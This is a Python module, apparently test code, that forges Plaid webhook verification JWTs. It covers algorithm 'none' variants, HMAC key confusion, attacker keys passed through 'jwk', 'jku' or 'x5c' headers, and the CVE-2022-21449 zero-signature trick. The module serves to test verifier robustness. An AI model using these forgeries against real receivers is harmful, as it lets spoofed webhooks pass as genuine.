"""Tokens an attacker builds without Plaid's private key: algorithm and key confusion, and tokens that
name their own key. Each attack gets the genuine signer (for its *public* key and kid only), the body,
and the URL of a JWKS the attacker serves; it returns the Plaid-Verification value.

The attacks a receiver falls for are the shortcuts of hand-rolled or misconfigured JWT code: taking
the algorithm from the token, HMAC keyed with the public key, trusting `jwk`/`jku`/`x5c` in the
token's own header, or an ECDSA routine that accepts a zero signature.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
import time
import uuid
from collections.abc import Callable
from typing import Any

import attrs
import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from plaid_refresh.webhooks.signing import WebhookSigner, body_sha256


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims(body: bytes, now: float | None = None) -> dict[str, Any]:
    return {"iat": int(time.time() if now is None else now), "request_body_sha256": body_sha256(body)}


def signing_input(header: dict[str, Any], body: bytes) -> str:
    return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims(body)).encode())}"


def _hmac(key: bytes, header: dict[str, Any], body: bytes, digest: Any = hashlib.sha256) -> str:
    data = signing_input(header, body)
    return f"{data}.{b64(hmac.new(key, data.encode(), digest).digest())}"


def _pem(signer: WebhookSigner) -> bytes:
    return signer.private_key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


@attrs.frozen
class Attacker:
    """The attacker's own keys, and the JWKS URL it serves them at."""

    ec_key: ec.EllipticCurvePrivateKey
    rsa_key: rsa.RSAPrivateKey
    kid: str
    jwks_url: str

    @classmethod
    def generate(cls, jwks_url: str) -> Attacker:
        return cls(
            ec_key=ec.generate_private_key(ec.SECP256R1()),
            rsa_key=rsa.generate_private_key(public_exponent=65537, key_size=2048),
            kid=f"attacker-{uuid.uuid4()}",
            jwks_url=jwks_url,
        )

    def public_jwk(self) -> dict[str, Any]:
        jwk: dict[str, Any] = ECAlgorithm.to_jwk(self.ec_key.public_key(), as_dict=True)
        return {**jwk, "kid": self.kid, "alg": "ES256", "use": "sig"}

    def jwks(self) -> dict[str, Any]:
        return {"keys": [self.public_jwk()]}

    def es256(self, body: bytes, header: dict[str, Any]) -> str:
        return jwt.encode(claims(body), self.ec_key, algorithm="ES256", headers=header)

    def certificate(self) -> str:
        """A self-signed certificate for the attacker's EC key (base64 DER, as in `x5c`)."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "plaid.com")])
        now = datetime.datetime.now(datetime.UTC)
        cert = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(self.ec_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .sign(self.ec_key, hashes.SHA256())
        )
        return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


Build = Callable[[WebhookSigner, Attacker, bytes], str]


@attrs.frozen
class Attack:
    name: str
    doc: str
    build: Build


def _none(variant: str) -> Build:
    def build(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
        return signing_input({"alg": variant, "typ": "JWT", "kid": signer.key_id}, body) + "."

    return build


def _hs_pem(alg: str, digest: Any) -> Build:
    def build(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
        return _hmac(_pem(signer), {"alg": alg, "typ": "JWT", "kid": signer.key_id}, body, digest)

    return build


def _hs256_jwk(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    key = json.dumps(signer.public_jwk()).encode()
    return _hmac(key, {"alg": "HS256", "typ": "JWT", "kid": signer.key_id}, body)


def _hs256_x(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    key = signer.public_jwk()["x"].encode()
    return _hmac(key, {"alg": "HS256", "typ": "JWT", "kid": signer.key_id}, body)


def _hs256_empty(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return _hmac(b"", {"alg": "HS256", "typ": "JWT", "kid": signer.key_id}, body)


def _embedded_jwk_genuine_kid(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {"kid": signer.key_id, "jwk": attacker.public_jwk()})


def _embedded_jwk_own_kid(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {"kid": attacker.kid, "jwk": attacker.public_jwk()})


def _jku(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {"kid": attacker.kid, "jku": attacker.jwks_url})


def _jku_genuine_kid(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {"kid": signer.key_id, "jku": attacker.jwks_url})


def _x5c(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {"kid": attacker.kid, "x5c": [attacker.certificate()]})


def _rs256_embedded(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    jwk: dict[str, Any] = RSAAlgorithm.to_jwk(attacker.rsa_key.public_key(), as_dict=True)
    header = {"kid": signer.key_id, "jwk": {**jwk, "kid": signer.key_id}}
    return jwt.encode(claims(body), attacker.rsa_key, algorithm="RS256", headers=header)


def _es384_attacker(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    key = ec.generate_private_key(ec.SECP384R1())
    return jwt.encode(claims(body), key, algorithm="ES384", headers={"kid": signer.key_id})


def _psychic(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    """CVE-2022-21449: an ECDSA check that accepts r = s = 0."""
    return signing_input({"alg": "ES256", "typ": "JWT", "kid": signer.key_id}, body) + "." + b64(bytes(64))


def _no_signature(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return signing_input({"alg": "ES256", "typ": "JWT", "kid": signer.key_id}, body) + "."


def _no_kid(signer: WebhookSigner, attacker: Attacker, body: bytes) -> str:
    return attacker.es256(body, {})


ATTACKS: tuple[Attack, ...] = (
    Attack("alg_None", "alg 'None' (a case variant of none), unsigned", _none("None")),
    Attack("alg_NONE", "alg 'NONE', unsigned", _none("NONE")),
    Attack("alg_nOnE", "alg 'nOnE', unsigned", _none("nOnE")),
    Attack("hs384_public_key", "HS384 keyed with the public key's PEM", _hs_pem("HS384", hashlib.sha384)),
    Attack("hs512_public_key", "HS512 keyed with the public key's PEM", _hs_pem("HS512", hashlib.sha512)),
    Attack("hs256_jwk", "HS256 keyed with the key server's JWK JSON", _hs256_jwk),
    Attack("hs256_x", "HS256 keyed with the public key's x coordinate", _hs256_x),
    Attack("hs256_empty", "HS256 keyed with an empty secret", _hs256_empty),
    Attack(
        "jwk_genuine_kid",
        "the attacker's key embedded as `jwk`, under the genuine kid",
        _embedded_jwk_genuine_kid,
    ),
    Attack("jwk_own_kid", "the attacker's key embedded as `jwk`, under its own kid", _embedded_jwk_own_kid),
    Attack("jku", "`jku` naming the attacker's JWKS, the attacker's kid", _jku),
    Attack("jku_genuine_kid", "`jku` naming the attacker's JWKS, under the genuine kid", _jku_genuine_kid),
    Attack("x5c", "the attacker's self-signed certificate in `x5c`", _x5c),
    Attack("rs256_embedded", "RS256 by the attacker's RSA key, embedded as `jwk`", _rs256_embedded),
    Attack("es384_other_key", "ES384 by another key under the genuine kid", _es384_attacker),
    Attack("psychic_signature", "ES256 with an all-zero signature (CVE-2022-21449)", _psychic),
    Attack("empty_signature", "ES256 header and claims with the signature cut off", _no_signature),
    Attack("no_kid", "signed by the attacker's key, no kid at all", _no_kid),
)
